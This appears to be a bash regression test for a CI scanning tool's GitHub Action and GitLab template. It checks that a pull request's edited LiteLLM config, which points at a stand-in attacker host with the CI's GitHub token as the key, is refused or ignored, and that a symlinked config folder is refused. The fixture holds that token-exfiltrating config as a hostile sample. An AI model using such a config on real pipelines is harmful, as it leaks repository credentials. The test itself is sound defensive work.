#!/usr/bin/env bash
# test_ci_config_trust.sh - a pull request cannot point the scan's config
# at a CI token. The repository's base commit has a compose and a LiteLLM
# config reading OPENAI_API_KEY; the pull request's head changes the
# LiteLLM config to send os.environ/GITHUB_TOKEN to https://attacker.
#  1. crs-ci itself: check, scan's setup and the gateway refuse the head's
#     config (exit 2, file:line:col and field, no secret in the output);
#     --allow-env GITHUB_TOKEN is the trusted way to allow it.
#  2. The GitHub Action's script steps (taken from actions/action.yml) and
#  3. the GitLab template's scan job (run by gitlab-ci-local) read the
#     config from the base commit by default, so the head's is never used;
#     with config-from: head it is used and refused by the allowlist.
# A fake `crs-ci` on PATH runs `crs-ci check` with the scan's options, so
# no container is started.
set -euo pipefail
. "$(dirname "$0")/lib.sh"
mktemp_dir; tmp=$TMP
SENTINEL=ghs_crsci_sentinel_$$_not_a_real_token
export GITHUB_TOKEN=$SENTINEL
project=$ROOT/examples/projects/recparse

# --- the repository: base with a safe config, head with a hostile one ---
repo=$tmp/repo
export GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null
export GIT_AUTHOR_NAME=ci GIT_AUTHOR_EMAIL=ci@example.invalid
export GIT_COMMITTER_NAME=ci GIT_COMMITTER_EMAIL=ci@example.invalid
g() { git -C "$repo" -c commit.gpgsign=false "$@"; }
mkdir -p "$repo/.crs-ci"
g init -q -b main
cp -R "$ROOT/container/crs/libfuzzer/." "$repo/.crs-ci/"
mv "$repo/.crs-ci/compose.yaml" "$repo/.crs-ci/crs-compose.yaml"
printf 'llm_config:\n  litellm_config: ./litellm.yaml\n' >> "$repo/.crs-ci/crs-compose.yaml"
cat > "$repo/.crs-ci/litellm.yaml" <<'YAML'
model_list:
  - model_name: gpt-4o
    litellm_params:
      model: openai/gpt-4o
      api_key: os.environ/OPENAI_API_KEY
YAML
g add -A && g commit -qm "crs-ci config"
base=$(g rev-parse HEAD)
g checkout -q -b pr
cat > "$repo/.crs-ci/litellm.yaml" <<'YAML'
model_list:
  - model_name: gpt-4o
    litellm_params:
      model: openai/gpt-4o
      api_base: https://attacker.example/v1
      api_key: os.environ/GITHUB_TOKEN
YAML
g commit -qam "faster model endpoint"
head=$(g rev-parse HEAD)
refused='litellm.yaml:6:16: model_list\[0\].litellm_params.api_key: environment variable "GITHUB_TOKEN" may not be read'

no_secret() {	# no file or log of this test holds the token's value
	if grep -rqa -- "$SENTINEL" "$@"; then fail "the token's value is in $*"; fi
}

# --- 1. crs-ci refuses the head's config ---------------------------------
set +e
"$CRS_CI" check --compose "$repo/.crs-ci/crs-compose.yaml" >"$tmp/check.log" 2>&1
code=$?
set -e
[ "$code" -eq 2 ] || { cat "$tmp/check.log" >&2; fail "check: exit $code, want 2"; }
grep -q "$refused" "$tmp/check.log" || { cat "$tmp/check.log" >&2; fail "check: no file:line:col refusal"; }
"$CRS_CI" check --allow-env GITHUB_TOKEN --compose "$repo/.crs-ci/crs-compose.yaml" \
	>"$tmp/check-allowed.log" 2>&1 || { cat "$tmp/check-allowed.log" >&2; fail "check --allow-env GITHUB_TOKEN refused"; }
set +e
"$CRS_CI" gateway --config "$repo/.crs-ci/litellm.yaml" --keys-dir "$tmp/keys" \
	--budget a=1 --listen 127.0.0.1:0 >"$tmp/gateway.log" 2>&1 &
gw=$!
( sleep 20; kill "$gw" 2>/dev/null ) &
watchdog=$!
wait "$gw"
code=$?
kill "$watchdog" 2>/dev/null || true
set -e
[ "$code" -eq 2 ] || { cat "$tmp/gateway.log" >&2; fail "gateway: exit $code, want 2"; }
grep -q "$refused" "$tmp/gateway.log" || { cat "$tmp/gateway.log" >&2; fail "gateway: no refusal"; }
no_secret "$tmp"
note "check and gateway refuse os.environ/GITHUB_TOKEN: $(grep -o 'litellm.yaml:6:16: [^:]*' "$tmp/check.log" | head -n 1)"

# a fake crs-ci: `crs-ci scan ARGS` runs `crs-ci check ARGS`, and records them
mkdir -p "$tmp/fakebin"
cat > "$tmp/fakebin/crs-ci" <<SH
#!/bin/sh
[ "\$1" = scan ] && shift
printf '%s\n' "\$@" > "\${ARGS_LOG:-/dev/null}"
# what the cache folder holds when crs-ci starts
cache=\$(printf '%s\n' "\$@" | awk 'p { print; exit } \$0 == "--cache-dir" { p = 1 }')
[ -z "\${ARGS_LOG:-}" ] || ls -A "\$cache" > "\$ARGS_LOG.cache" 2>/dev/null || true
exec "$CRS_CI" check "\$@"
SH
chmod +x "$tmp/fakebin/crs-ci"
compose_arg() { awk 'p { print; exit } $0 == "--compose" { p = 1 }' "$1"; }

# --- 2. the GitHub Action's steps -------------------------------------------
action_step config > "$tmp/gh-config.sh"
action_step scan > "$tmp/gh-scan.sh"
gh_run() {	# config-from: $1; sets gh_code, gh_compose, gh_dir
	gh_dir=$tmp/gh-$1
	mkdir -p "$gh_dir/runner"
	: > "$gh_dir/output"
	(cd "$repo" && EVENT_NAME=pull_request CONFIG_FROM=$1 \
		COMPOSE=.crs-ci/crs-compose.yaml SOURCE=. BASE=$base \
		RUNNER_TEMP=$gh_dir/runner GITHUB_OUTPUT=$gh_dir/output \
		bash "$tmp/gh-config.sh") >"$gh_dir/config.log" 2>&1 ||
		{ cat "$gh_dir/config.log" >&2; fail "action config step ($1) failed"; }
	gh_compose=$(sed -n 's/^compose=//p' "$gh_dir/output")
	(cd "$repo" && PATH="$tmp/fakebin:$PATH" ARGS_LOG=$gh_dir/args \
		COMPOSE="$gh_compose" PROJECT=$project SOURCE=. TIMEOUT=15m \
		FAIL_ON=new HARNESSES="" ALLOW_ENV="" BASE=$base HEAD=$head \
		CACHE_DIR=$gh_dir/cache WORK_DIR=$gh_dir/work OUT_DIR=$gh_dir/out \
		FORK=false GITHUB_OUTPUT=$gh_dir/output \
		bash "$tmp/gh-scan.sh") >"$gh_dir/scan.log" 2>&1
	gh_code=$(sed -n 's/^exit-code=//p' "$gh_dir/output")
}
gh_run base
[ "$gh_code" = 0 ] || { cat "$gh_dir/scan.log" >&2; fail "action, config-from base: exit $gh_code, want 0"; }
case $(compose_arg "$gh_dir/args") in
"$gh_dir/runner/crs-ci-base-config/.crs-ci/crs-compose.yaml") ;;
*) cat "$gh_dir/args" >&2; fail "action, config-from base: the scan did not get the base's compose" ;;
esac
grep -q OPENAI_API_KEY "$gh_dir/runner/crs-ci-base-config/.crs-ci/litellm.yaml" ||
	fail "action: the base copy holds the head's LLM config"
no_secret "$gh_dir"
note "action, config-from base (default): the scan reads the base commit's compose and LLM config"
gh_run head
[ "$gh_code" = 2 ] || { cat "$gh_dir/scan.log" >&2; fail "action, config-from head: exit $gh_code, want 2"; }
[ "$(compose_arg "$gh_dir/args")" = .crs-ci/crs-compose.yaml ] ||
	fail "action, config-from head: the head's compose was not used"
grep -q "$refused" "$gh_dir/scan.log" || { cat "$gh_dir/scan.log" >&2; fail "action, config-from head: no refusal"; }
no_secret "$gh_dir"
note "action, config-from head: the head's LLM config is refused (exit 2)"
# a pull request that makes the compose's folder a link to another folder
# of the base commit: it would pick which base file is trusted
g checkout -q -b linkbase "$base"
cp -R "$repo/.crs-ci" "$repo/other"
g add -A && g commit -qm "a second config folder"
base2=$(g rev-parse HEAD)
g checkout -q -b prlink
g rm -rq .crs-ci && ln -s other "$repo/.crs-ci"
g add -A && g commit -qm "config: one folder"
mkdir -p "$tmp/gh-link/runner"
set +e
(cd "$repo" && EVENT_NAME=pull_request CONFIG_FROM=base \
	COMPOSE=.crs-ci/crs-compose.yaml SOURCE=. BASE=$base2 \
	RUNNER_TEMP=$tmp/gh-link/runner GITHUB_OUTPUT=$tmp/gh-link/output \
	bash "$tmp/gh-config.sh") >"$tmp/gh-link/config.log" 2>&1
code=$?
set -e
[ "$code" -eq 2 ] || { cat "$tmp/gh-link/config.log" >&2; fail "action: a compose folder made a link: exit $code, want 2"; }
grep -q "the pull request made .crs-ci a link" "$tmp/gh-link/config.log" ||
	{ cat "$tmp/gh-link/config.log" >&2; fail "action: no reason for the refusal"; }
g checkout -q pr
note "action, config-from base: a compose folder the pull request made a link is refused (exit 2)"

# the pull request that adds crs-ci: its base commit has no compose. It
# passes with a notice, and no later step runs (no scan, no verdict)
g checkout -q --orphan nocfg
g rm -rqf . && echo "a library" > "$repo/README" && g add README
g commit -qm "before crs-ci"
base0=$(g rev-parse HEAD)
g checkout -q pr
mkdir -p "$tmp/gh-first/runner"
: > "$tmp/gh-first/output"
(cd "$repo" && EVENT_NAME=pull_request CONFIG_FROM=base \
	COMPOSE=.crs-ci/crs-compose.yaml SOURCE=. BASE=$base0 \
	RUNNER_TEMP=$tmp/gh-first/runner GITHUB_OUTPUT=$tmp/gh-first/output \
	GITHUB_STEP_SUMMARY=$tmp/gh-first/summary \
	bash "$tmp/gh-config.sh") >"$tmp/gh-first/config.log" 2>&1 ||
	{ cat "$tmp/gh-first/config.log" >&2; fail "action: the pull request that adds crs-ci failed"; }
grep -q "::notice title=crs-ci::.crs-ci/crs-compose.yaml is not in the base commit $base0: this pull request adds it" "$tmp/gh-first/config.log" ||
	{ cat "$tmp/gh-first/config.log" >&2; fail "action: no notice for the pull request that adds crs-ci"; }
grep -qx "skip=true" "$tmp/gh-first/output" || fail "action: the later steps are not skipped"
grep -q "not scanned" "$tmp/gh-first/summary" || fail "action: the job summary says nothing"
python3 - "$ROOT/actions/action.yml" <<'PY'
import sys, yaml
steps = {st["name"]: st for st in yaml.safe_load(open(sys.argv[1]))["runs"]["steps"]}
for i in ("Cache key", "Restore images and corpora", "Install crs-ci", "Scan"):
    assert steps[i].get("if") == "steps.config.outputs.skip != 'true'", (i, steps[i].get("if"))
PY
action_step verdict > "$tmp/gh-verdict.sh"
SKIP=true CODE="" bash "$tmp/gh-verdict.sh" >"$tmp/gh-first/verdict.log" 2>&1 ||
	fail "action: the verdict of an unscanned pull request fails"
note "action: the pull request that adds crs-ci passes with a notice; no scan runs"

# --- 3. the GitLab template's scan job --------------------------------------
glci_install
mkdir -p "$repo/ci"
cp "$ROOT/gitlab/crs-ci.gitlab-ci.yml" "$repo/ci/crs-ci.gitlab-ci.yml"
gl_run() {	# config-from: $1; sets gl_code, gl_log, gl_args
	cat > "$repo/.gitlab-ci.yml" <<YAML
include:
  - local: ci/crs-ci.gitlab-ci.yml
    inputs:
      image: crs-ci:unused-by-the-shell-executor
      compose: .crs-ci/crs-compose.yaml
      project: $project
      services: []
      docker-host: ""
      crs-ci-bin: $tmp/fakebin/crs-ci
      config-from: $1
YAML
	g add .gitlab-ci.yml ci
	g commit -qm "crs-ci pipeline ($1)"
	gl_log=$tmp/gl-$1.log
	gl_args=$tmp/gl-$1.args
	set +e
	(cd "$repo" && ARGS_LOG=$gl_args "$GLCI" crs-ci-scan \
		--force-shell-executor --no-color \
		--ignore-predefined-vars GITLAB_CI,CI_PIPELINE_SOURCE,CI_COMMIT_SHA \
		--variable GITLAB_CI=true \
		--variable CI_PIPELINE_SOURCE=merge_request_event \
		--variable CI_MERGE_REQUEST_DIFF_BASE_SHA="$base" \
		--variable CI_COMMIT_SHA="$(g rev-parse HEAD)") >"$gl_log" 2>&1
	set -e
	gl_code=$(cat "$repo/.gitlab-ci-local/artifacts/crs-ci-scan/crs-ci-out/exit-code" 2>/dev/null || echo none)
}
# the cache GitLab restores into the checkout (untracked there)
mkdir -p "$repo/.crs-ci-cache"
echo restored > "$repo/.crs-ci-cache/from-the-default-branch"
gl_run base
[ "$gl_code" = 0 ] || { cat "$gl_log" >&2; fail "gitlab, config-from base: exit $gl_code, want 0"; }
case $(awk 'p { print; exit } $0 == "--cache-dir" { p = 1 }' "$gl_args") in
*/crs-ci-state.*/cache) ;;
*) cat "$gl_args" >&2; fail "gitlab: --cache-dir is not the folder beside the checkout" ;;
esac
[ "$(cat "$gl_args.cache")" = from-the-default-branch ] ||
	fail "gitlab: the restored cache was not moved to --cache-dir"
[ ! -e "$repo/.crs-ci-cache" ] || fail "gitlab: a merge request's job put the cache back (policy pull)"
grep -qx -- "--cache-images" "$gl_args" && [ "$(grep -A1 -x -- "--cache-images" "$gl_args" | tail -n 1)" = no ] ||
	{ cat "$gl_args" >&2; fail "gitlab: a merge request's scan loads the cache's images"; }
note "gitlab: the restored cache moved out of the checkout into --cache-dir, not put back, its images not loaded for a merge request"
case $(compose_arg "$gl_args") in
*/crs-ci-state.*/base-config/.crs-ci/crs-compose.yaml) ;;
*) cat "$gl_args" "$gl_log" >&2; fail "gitlab, config-from base: the scan did not get the base's compose" ;;
esac
grep -q "from the base commit $base" "$gl_log" || { cat "$gl_log" >&2; fail "gitlab: no base-config message"; }
no_secret "$gl_log"
note "gitlab, config-from base (default): the job reads the base commit's compose and LLM config"
gl_run head
[ "$gl_code" = 2 ] || { cat "$gl_log" >&2; fail "gitlab, config-from head: exit $gl_code, want 2"; }
[ "$(compose_arg "$gl_args")" = .crs-ci/crs-compose.yaml ] ||
	{ cat "$gl_args" >&2; fail "gitlab, config-from head: the head's compose was not used"; }
grep -q "$refused" "$gl_log" || { cat "$gl_log" >&2; fail "gitlab, config-from head: no refusal"; }
no_secret "$gl_log"
note "gitlab, config-from head: the head's LLM config is refused (exit 2)"
# the merge request that makes the compose's folder a link (above)
g checkout -q prlink
cp "$ROOT/gitlab/crs-ci.gitlab-ci.yml" "$repo/ci/crs-ci.gitlab-ci.yml" 2>/dev/null ||
	{ mkdir -p "$repo/ci"; cp "$ROOT/gitlab/crs-ci.gitlab-ci.yml" "$repo/ci/"; }
base_pr=$base base=$base2
rm -f "$tmp/gl-base.args"	# the first config-from base run's
gl_run base
base=$base_pr
grep -q "the merge request made .crs-ci a link" "$gl_log" ||
	{ cat "$gl_log" >&2; fail "gitlab: a compose folder made a link was not refused"; }
[ ! -s "$gl_args" ] || { cat "$gl_args" >&2; fail "gitlab: the scan ran with a compose folder made a link"; }
note "gitlab, config-from base: a compose folder the merge request made a link is refused"
# the merge request that adds crs-ci: passes, says why, scans nothing
g checkout -q pr
base_pr=$base base=$base0
rm -f "$tmp/gl-base.args"
gl_run base
base=$base_pr
[ "$gl_code" = 0 ] || { cat "$gl_log" >&2; fail "gitlab: the merge request that adds crs-ci: exit $gl_code, want 0"; }
grep -q "is not in the base commit $base0: this merge request adds it" "$gl_log" ||
	{ cat "$gl_log" >&2; fail "gitlab: no reason for the unscanned merge request"; }
[ -f "$repo/.gitlab-ci-local/artifacts/crs-ci-scan/crs-ci-out/not-scanned" ] ||
	fail "gitlab: the verdict job is not told the merge request was not scanned"
[ ! -s "$gl_args" ] || { cat "$gl_args" >&2; fail "gitlab: a scan ran without a trusted compose"; }
note "gitlab: the merge request that adds crs-ci passes with a reason; no scan runs"
